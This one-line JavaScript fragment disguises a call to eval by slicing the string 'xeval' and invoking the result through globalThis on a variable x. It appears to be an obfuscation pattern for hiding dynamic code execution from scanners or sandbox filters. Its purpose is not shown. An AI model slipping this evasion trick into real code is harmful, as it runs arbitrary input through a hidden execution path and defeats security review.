globalThis['xeval'.slice(1)](x)
